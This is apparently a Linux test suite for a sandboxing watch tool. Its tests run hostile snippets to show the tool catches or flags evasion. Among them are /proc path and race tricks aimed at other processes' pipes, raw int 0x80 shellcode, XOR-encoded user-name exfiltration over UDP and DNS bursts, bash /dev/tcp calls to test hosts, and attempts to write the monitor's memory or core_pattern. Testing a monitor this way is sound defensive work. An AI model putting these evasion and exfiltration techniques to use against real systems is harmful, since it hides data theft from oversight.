"""Whatever works against a watch is withstood or said, and never passes for silence.

A program has its tricks, a machine lacks something, a part of the watch fails.
"""

import json
import os
import platform
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path
from typing import Any

import pytest

from tests.attacks.seal_child import AS_EVERY_USER, ON_LINUX
from tests.conftest import CLEAN, INHOUSE
from tests.real.watched import command_lines, watch, ways

pytestmark = [pytest.mark.real, ON_LINUX]

TRICKS = """
import ctypes, json, os, socket, stat, sys, threading, time
old, late, place, *calls = sys.argv[1:]
kernel = ctypes.CDLL(None, use_errno=True)
known = os.open(old, os.O_PATH)
os.symlink(f"/proc/self/fd/{known}", "link")
os.chdir("/proc")
reached = []
def try_to_tell(path):
    try:
        os.write(os.open(path, os.O_WRONLY | os.O_NONBLOCK), b"secret")
        reached.append(path)
    except OSError:
        pass
home = os.environ["HOME"]
for path in (f"/proc/self/fd/{known}", f"/proc//self/fd/{known}", f"/proc/1/../self/fd/{known}",
             f"self/fd/{known}", f"{place}/link", f"/proc/thread-self/root/{old}"):
    try_to_tell(path)
until = time.monotonic() + 10
while not os.path.exists(late) and time.monotonic() < until:
    time.sleep(0.01)
try_to_tell(late)
path = ctypes.create_string_buffer(200)
def change(after):
    time.sleep(after)
    path.value = old.encode()
for number in range(40):
    path.value = b"/dev/null"
    changes = threading.Thread(target=change, args=(number % 20 / 20000,))
    changes.start()
    got = kernel.open(path, os.O_WRONLY | os.O_NONBLOCK)
    changes.join()
    if got >= 0 and stat.S_ISFIFO(os.fstat(got).st_mode):
        reached.append("race")
    if got >= 0:
        os.close(got)
os.symlink(f"{place}/dangling", f"{home}/link")
open(f"{home}/link", "w").close()
there = os.open(place, os.O_TMPFILE | os.O_WRONLY)
kernel.linkat(-100, f"/proc/self/fd/{there}".encode(), -100, f"{place}/named".encode(), 0x400)
for address in (-12288, 1 << 63, 8):
    wild = ctypes.c_void_p(address)
    kernel.open(wild, os.O_WRONLY)
    kernel.mkfifo(wild, 0o600)
    with socket.socket() as caller:
        kernel.connect(caller.fileno(), wild, 16)
        kernel.sendmsg(caller.fileno(), wild, 0)
for address in calls:
    socket.create_connection((address, 4444)).close()
print(json.dumps(reached))
"""


def test_no_trick_with_a_path_reaches_a_fifo_of_others_and_a_wild_pointer_ends_nothing(
    tmp_path: Path,
):
    """The control: unwatched, each of them reaches it."""
    old, late = tmp_path / "old", tmp_path / "late"
    os.mkfifo(old)
    os.mkfifo(tmp_path / "made meanwhile")
    readers = [
        os.open(path, os.O_RDONLY | os.O_NONBLOCK) for path in (old, tmp_path / "made meanwhile")
    ]
    command = [sys.executable, "-c", TRICKS, str(old), str(late), str(tmp_path)]

    def make_it() -> None:
        time.sleep(0.6)
        (tmp_path / "made meanwhile").rename(late)

    making = threading.Thread(target=make_it)
    making.start()
    ran = subprocess.run(
        [*INHOUSE, "watch", "--json", "--seconds", "30", "--", *command, "203.0.113.9"],
        env=CLEAN,
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    making.join()
    said = json.loads(ran.stdout)
    assert json.loads(ran.stderr) == []
    assert [_taken(reader) for reader in readers] == [b"", b""]
    assert set(ways(said)) == {
        (str(old), "fifo", 0),
        (str(late), "fifo", 0),
        ("203.0.113.9", "tcp", 4444),
    }
    assert said["watched"]["gaps"] == []
    assert said["watched"]["files"] == [
        f"{tmp_path}/dangling",
        f"{tmp_path}/(a file without a name)",
    ]
    verdicts = {claim["id"]: claim["verdict"] for claim in said["claims"]}
    assert verdicts["watch.packets"] == "BROKEN"

    for left in ("link", "dangling", "named"):
        (tmp_path / left).unlink()
    home = tmp_path / "home"
    home.mkdir()
    plain = subprocess.run(
        command, env=CLEAN | {"HOME": str(home)}, cwd=tmp_path, capture_output=True, check=True
    )
    assert len(json.loads(plain.stdout)) >= 7
    assert [_taken(reader) for reader in readers] == [b"secret" * 6, b"secret"]
    for reader in readers:
        os.close(reader)


def _taken(reader: int) -> bytes:
    try:
        return os.read(reader, 1000)
    except BlockingIOError:
        return b""


FOREIGN = """
import ctypes, mmap
code = mmap.mmap(-1, 4096, prot=7)
code.write(bytes.fromhex("53 b814000000 cd80 5b c3"))  # getpid, by its number of old: int 0x80
ask = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
libc = ctypes.CDLL(None, use_errno=True)
print(ask(), libc.syscall(0x40000000 + 39), ctypes.get_errno(), libc.syscall(425, 8, None),
      ctypes.get_errno())
"""


@pytest.mark.skipif(platform.machine() != "x86_64", reason="there is one way to call the kernel")
def test_calls_in_the_dress_of_another_architecture_are_refused_and_leave_nothing_known():
    ran = watch("--", sys.executable, "-c", FOREIGN)
    assert ran.stderr.split() == ["-38", "-1", "38", "-1", "38"]
    said = json.loads(ran.stdout)
    assert {claim["verdict"] for claim in said["claims"]} == {"UNKNOWN"}
    assert "32-bit" in said["claims"][-1]["evidence"]


MANY = """
import os, signal, socket, time
os.kill(os.getppid(), signal.SIGTERM)
time.sleep(0.2)
opaque = bytes(byte ^ 0xA5 for byte in os.environ["USER"].encode())
for number in range(800):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as caller:
        caller.sendto(opaque, (f"203.0.{number // 200}.{number % 200 + 1}", 1000 + number))
resolver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
resolver.connect(("198.18.0.1", 53))
head = bytes.fromhex("123401000001000000000000")
for number in range(400):
    resolver.send(head + b"\\x04n%03d\\x04many\\x07example\\0\\0\\1\\0\\1" % number)
"""


def test_a_burst_is_seen_whole_and_the_program_can_not_end_its_watch():
    ran = watch("--", sys.executable, "-c", MANY)
    said = json.loads(ran.stdout)
    assert said["watched"]["ended"] == "by itself with 0"
    assert said["watched"]["gaps"] == []
    assert {who for who, kind, _ in ways(said) if kind == "udp"} == {
        f"203.0.{number // 200}.{number % 200 + 1}" for number in range(800)
    }
    assert {who for who, kind, _ in ways(said) if kind == "dns"} == {
        f"n{number:03}.many.example" for number in range(400)
    }
    (identity,) = [claim for claim in said["claims"] if claim["id"] == "watch.identity"]
    assert identity["verdict"] == "UNKNOWN"  # it was sent, in a code that nobody undoes
    assert f"{800 * 12} are not" in identity["evidence"]


AS_A_LIBRARY = """
import encodings.idna, json, os, sys
import cryptography.x509, msgspec
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.backends.openssl import backend
from inhouse.errors import InhouseError
from inhouse.egress import namespaces
from inhouse.proofs.telemetry import frames, watch as module
from inhouse.proofs.telemetry.claims import claims
from inhouse.proofs.telemetry.watch import watch

def tell(command):
    try:
        found = watch(command, seconds=SECONDS, canaries=())
    except InhouseError as error:
        print(json.dumps([error.exit_code, str(error)]))
        return
    verdicts = {claim.id: claim.verdict for claim in claims(found)}
    print(json.dumps([[contact.who for contact in found.contacts], verdicts]))
"""
CALL = ["bash", "-c", "exec 3<>/dev/tcp/203.0.113.5/31337 && echo hello >&3"]


def as_a_library(script: str, user: int, seconds: float = 20) -> Any:
    become = f"if os.getuid() != {user}: os.setgroups([]); os.setgid({user}); os.setuid({user})"
    ran = subprocess.run(
        [sys.executable, "-c", f"{AS_A_LIBRARY}\nSECONDS = {seconds}\n{become}\n{script}"],
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
    )
    return json.loads(ran.stdout)


@AS_EVERY_USER
def test_no_privilege_is_needed(user: int):
    called, verdicts = as_a_library(f"tell({CALL})", user)
    assert called == ["203.0.113.5"]
    assert verdicts["watch.itself"] == "HOLDS"
    assert verdicts["watch.packets"] == "BROKEN"


@AS_EVERY_USER
def test_without_namespaces_nothing_is_run_and_the_fix_is_named(user: int, tmp_path: Path):
    script = f"""
def none(more=0):
    raise PermissionError(1, "no")
namespaces.enter = none
tell(["touch", {str(tmp_path / "ran")!r}])
"""
    code, said = as_a_library(script, user)
    assert code == 2
    assert "user namespaces" in said
    assert list(tmp_path.iterdir()) == []


def test_sandboxes_work_inside_but_no_second_watch():
    inner = f"{sys.executable} -m inhouse watch --json -- true"
    small = "from inhouse.egress.small_net import *; print(wait_for(fork_inside(SmallNet(), int)))"
    ran = watch("--", "sh", "-c", f"{sys.executable} -c '{small}'; {inner}; echo $?")
    assert json.loads(ran.stdout)["watched"]["contacts"] == []
    assert ran.stderr.startswith("0\n")
    assert "don't watch a watch" in ran.stderr
    assert ran.stderr.endswith("2\n")


def test_without_a_process_namespace_orphans_are_watched_and_ended_all_the_same():
    """As in containers that mask /proc."""
    script = """
from inhouse.egress import small_net
plain = small_net._fork
small_net._fork = lambda *words: plain(*words[:2], False, *words[3:])
tell(["bash", "-c", "(setsid bash -c 'sleep 0.6; echo > /dev/tcp/203.0.113.5/99; sleep 76.5' &)"])
"""
    called, verdicts = as_a_library(script, os.getuid(), seconds=2)
    assert called == ["203.0.113.5"]
    assert verdicts["watch.itself"] == "HOLDS"
    assert [line for line in command_lines() if b"76.5" in line] == []


SLOW_FILE = """
import fcntl, os, signal, time
reads = os.open("slow", os.O_CREAT | os.O_RDONLY, 0o600)
fcntl.fcntl(reads, fcntl.F_SETLEASE, fcntl.F_RDLCK)
def let_go(number, frame):
    time.sleep(0.5)
    fcntl.fcntl(reads, fcntl.F_SETLEASE, fcntl.F_UNLCK)
signal.signal(signal.SIGIO, let_go)
if os.fork() == 0:
    open("slow", "w").close()
    os._exit(0)
while True:
    try:
        os.wait()
    except ChildProcessError:
        break
"""


def test_a_file_that_keeps_the_watch_waiting_leaves_nothing_known(tmp_path: Path):
    """While it waits, no other call of the program goes on, so its silence means little."""
    program = tmp_path / "slow.py"
    program.write_text(SLOW_FILE)
    script = f"""
from inhouse.proofs.telemetry import witness
witness.LONGEST_S = 0.3
os.chdir({str(tmp_path)!r})
tell([{sys.executable!r}, {str(program)!r}])
"""
    _, verdicts = as_a_library(script, os.getuid())
    assert set(verdicts.values()) == {"UNKNOWN"}


def test_a_watch_that_is_blind_or_open_knows_nothing():
    """Each part is put out of order: then silence must not be taken for peace."""
    script = """
broken = (
    (module.Witness, "run", lambda self, stopped: os.close(self._descriptor)),
    (frames.Sniffer, "run", lambda self, stopped: None),
    (module, "_is_closed", lambda port: False),
    (module, "CONTROL", module.CONTROL),
)
said = []
for place, name, blind in broken:
    whole = getattr(place, name)
    setattr(place, name, blind)
    said.append([str(claim.verdict) for claim in claims(watch(["true"], seconds=20, canaries=()))])
    setattr(place, name, whole)
print(json.dumps(said))
"""
    *blind, whole = as_a_library(script, os.getuid())
    assert blind == [["UNKNOWN"] * 5] * 3
    assert whole == ["HOLDS"] * 5


LAST_OF_MANY = """
import ctypes, os, socket, struct, sys

settings, late = sys.argv[1:3]
watch = os.open(f"/proc/{os.getppid()}", os.O_PATH)  # it may do more to itself than we to it
for folder, path in (
    (None, settings),
    (None, f"/proc/{os.getppid()}/mem"),
    (watch, "mem"),
    (None, f"/proc/self/fd/{watch}/mem"),
    (None, f"/proc/{os.getppid()}/fd/1"),
    (None, "/proc/self/mem"),
):
    try:
        os.close(os.open(path, os.O_WRONLY, dir_fd=folder))
        print("opened", flush=True)
    except OSError as error:
        print(os.strerror(error.errno), flush=True)
kept = []


def message(path):
    address = ctypes.create_string_buffer(struct.pack("=H", socket.AF_UNIX) + os.fsencode(path))
    word = ctypes.create_string_buffer(b"word")
    part = ctypes.create_string_buffer(struct.pack("=QQ", ctypes.addressof(word), 4))
    kept.extend((address, word, part))
    places = ctypes.addressof(address), len(address), ctypes.addressof(part)
    return struct.pack("=QIxxxxQQQQIxxxxIxxxx", *places, 1, 0, 0, 0, 0)


own = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
own.bind(os.environ["HOME"] + "/own")
many = b"".join(message(own.getsockname()) for _ in range(8)) * 8 + message(late)
sender = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
sender.setblocking(False)
ctypes.CDLL(None).sendmmsg(sender.fileno(), ctypes.create_string_buffer(many), 65, 0)
"""


def test_neither_settings_nor_the_watch_are_opened_and_the_last_of_many_messages_is_seen(
    tmp_path: Path,
) -> None:
    setting = "/proc/sys/kernel/core_pattern"  # a program named there would run outside
    late = tmp_path / "late"
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as other:
        other.bind(str(late))
        late.chmod(0o600)
        ran = watch("--", sys.executable, "-c", LAST_OF_MANY, setting, str(late))
    said = json.loads(ran.stdout)
    refused = "Permission denied"
    assert ran.stderr.splitlines() == ["Read-only file system", *[refused] * 4, "opened"]
    assert set(ways(said)) == {(str(late), "unix", 0)}
    (itself,) = (claim for claim in said["claims"] if claim["id"] == "watch.itself")
    assert itself["verdict"] == "HOLDS"
    assert f"{setting} (refused)" in itself["evidence"]


OWN_MOUNTS = """
import ctypes, os, socket, sys

outside, home, watch, me = sys.argv[1], os.environ["HOME"], os.getppid(), os.getpid()
libc = ctypes.CDLL(None, use_errno=True)
user = os.getuid()
assert libc.unshare(0x10020000) == 0  # CLONE_NEWUSER and CLONE_NEWNS
with open("/proc/self/uid_map", "w") as map_:
    map_.write(f"0 {user} 1")
os.mkdir(f"{home}/inside")
BIND = 0x1000
for source, target in ((outside, f"{home}/inside"), (f"/proc/{watch}", f"/proc/{me}")):
    assert libc.mount(source.encode(), target.encode(), None, BIND, None) == 0
open(f"{home}/inside/left", "w").close()
with socket.socket(socket.AF_UNIX) as own:
    own.bind(f"{home}/inside/own")
for path in (f"/proc/{me}/mem", f"/proc/{me}/fd/1"):
    try:
        os.close(os.open(path, os.O_WRONLY))
        print("opened")
    except OSError as error:
        print(os.strerror(error.errno))
"""


def test_mounts_of_its_own_hide_nothing_and_lead_into_no_other_process(tmp_path: Path) -> None:
    ran = watch("--", sys.executable, "-c", OWN_MOUNTS, str(tmp_path))
    assert ran.stderr.splitlines() == ["Permission denied"] * 2
    said = json.loads(ran.stdout)
    assert {claim["verdict"] for claim in said["claims"]} == {"UNKNOWN"}
    assert any(path.endswith("/inside/left") for path in said["watched"]["files"])
    assert any("bound a Unix socket" in gap for gap in said["watched"]["gaps"])
